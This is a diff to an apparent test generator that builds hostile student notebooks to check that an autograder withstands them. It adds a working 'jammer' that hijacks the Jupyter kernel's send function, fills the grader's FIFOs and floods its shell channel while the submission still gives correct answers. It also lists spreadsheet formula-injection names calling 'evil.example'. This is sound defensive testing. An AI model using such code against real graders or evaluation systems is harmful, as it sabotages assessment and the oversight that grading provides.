@@ -374,6 +374,80 @@ for folder in {folders!r}:
         pass
 '''
 
+JAMMER = r'''
+# 17. jam the calls' channels while its (right) functions are graded: fill the FIFO the grader hands calls
+# out on, name calls it never answered on the FIFO it answers on, and flood the shell channel with replies
+import threading
+KERNEL = get_ipython().kernel
+IDENTS, _send = [], KERNEL.session.send
+
+def _spy(stream, msg_or_type, content=None, parent=None, ident=None, *args, **kwargs):
+    if ident is not None and not IDENTS:
+        IDENTS.append(ident)                      # the grader's address on the shell channel
+    return _send(stream, msg_or_type, content, parent, ident, *args, **kwargs)
+KERNEL.session.send = _spy
+
+def channel(name):
+    """A FIFO of the calls' protocol: ``go`` beside the connection file, ``done`` beside the working folder."""
+    argv = open(f"/proc/{os.getpid()}/cmdline", "rb").read().split(b"\0")
+    inbox = os.path.dirname(argv[argv.index(b"-f") + 1].decode())
+    return os.path.join(inbox if name == "go" else os.path.dirname(os.getcwd()), name)
+
+def jam_go():
+    """Fill the grader's FIFO ``go``: True if it could be opened for writing at all."""
+    try:
+        fd = os.open(channel("go"), os.O_WRONLY | os.O_NONBLOCK)
+    except OSError:
+        return False
+    try:
+        while True:
+            os.write(fd, b"x" * 4096)
+    except OSError:
+        return True
+
+def flood_shell(seconds):
+    """Replies to no request, as fast as the kernel can send them."""
+    parent = {"msg_id": "none", "msg_type": "execute_request", "username": "", "session": "", "date": "",
+              "version": "5.3"}
+    socket = getattr(KERNEL.shell_stream, "socket", KERNEL.shell_stream)
+    until = time.monotonic() + seconds
+    while time.monotonic() < until:
+        if IDENTS:
+            _send(socket, "execute_reply", {"status": "ok", "junk": "x" * 1000}, parent=parent, ident=IDENTS[0])
+
+def name_calls(seconds):
+    until = time.monotonic() + seconds
+    while time.monotonic() < until:
+        try:
+            fd = os.open(channel("done"), os.O_WRONLY | os.O_NONBLOCK)
+            os.write(fd, b"".join(b"c%d\n" % k for k in range(200)))
+            os.close(fd)
+        except OSError:
+            pass
+        if jam_go():
+            evidence("jammed_go")
+        time.sleep(0.01)
+
+def jam(seconds):
+    for target in (flood_shell, name_calls):
+        threading.Thread(target=target, args=(seconds,), daemon=True).start()
+
+JAMMING = []
+
+def jammed(fn, seconds=90):
+    """``fn``, which starts the jam at the first call: while calls are served, the kernel's own thread sends
+    nothing on the shell channel (two threads sending at once would crash the kernel's ZMQ)."""
+    def wrapper(*args):
+        if not JAMMING:
+            JAMMING.append(jam(seconds))
+        return fn(*args)
+    wrapper.__name__ = fn.__name__
+    return wrapper
+'''
+
+JAMMED = "\nsigmoid, softmax, cross_entropy, grad_z3, grad_W3, grad_b3 = map(jammed, (sigmoid, softmax, " \
+         "cross_entropy, grad_z3, grad_W3, grad_b3))\n"
+
 WRITTEN_CELL = {"cell_type": "markdown", "id": "essay01", "source": "My essay: backprop is the chain rule.",
                 "metadata": {"tags": ["written-answer"], "checker": {"answer_id": "wb01.q_row_convention"}}}
 
@@ -413,6 +487,10 @@ ATTACKS = {
     "read_machine": "looks at the checkout, the solutions, the class, out/, the scratch, the home folder",
     "write_outside": "writes files next to out/, into the class and into the grader's checker",
 }
+# student -> attack, for notebooks whose functions are right: they must get exactly HONEST_POINTS
+RIGHT_BUT_HOSTILE = {
+    "jammer": "fills the FIFO calls come on, names calls it never answered, floods the shell channel with replies",
+}
 FORMULA_NAMES = ['=HYPERLINK("evil.example","click")', "@SUM(1+1)", "-2+3", "\tTAB", "+1"]
 HONEST = {"ivy": HONEST_POINTS, "harriet": PARTIAL_POINTS}
 
@@ -441,6 +519,7 @@ def generate(folder: Path, config: Config, *, paths: dict, outside: list) -> dic
               "sleepers": SLEEPERS, "print_bomb": PRINT_BOMB, "network": NETWORK}
     for name, body in bodies.items():
         put(name, attack(config, body))
+    put("jammer", attack(config, JAMMER + HONEST_FUNCTIONS + JAMMED))
     put("read_machine", attack(config, READ_MACHINE, paths=paths))
     put("write_outside", attack(config, WRITE_OUTSIDE, folders=outside))
     solution = Path(config.guard) / "solutions" / NOTEBOOK
@@ -453,6 +532,7 @@ def generate(folder: Path, config: Config, *, paths: dict, outside: list) -> dic
     for name in FORMULA_NAMES:
         put(name, notebook("shape_x = (1024,)", written=True))
     students.update({name: ATTACKS[name] for name in ATTACKS})
+    students.update(RIGHT_BUT_HOSTILE)
     students.update({name: "a name a spreadsheet would run as a formula" for name in FORMULA_NAMES})
     return students
 
